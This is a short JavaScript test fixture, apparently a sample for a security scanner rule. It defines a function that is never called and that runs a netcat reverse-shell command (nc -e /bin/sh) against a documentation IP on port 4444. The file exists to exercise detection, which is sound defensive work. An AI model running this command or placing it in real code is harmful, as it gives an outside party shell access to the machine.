// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const { exec } = require('child_process');
function never() {
  exec('nc -e /bin/sh 192.0.2.21 4444');
}
module.exports = { never };
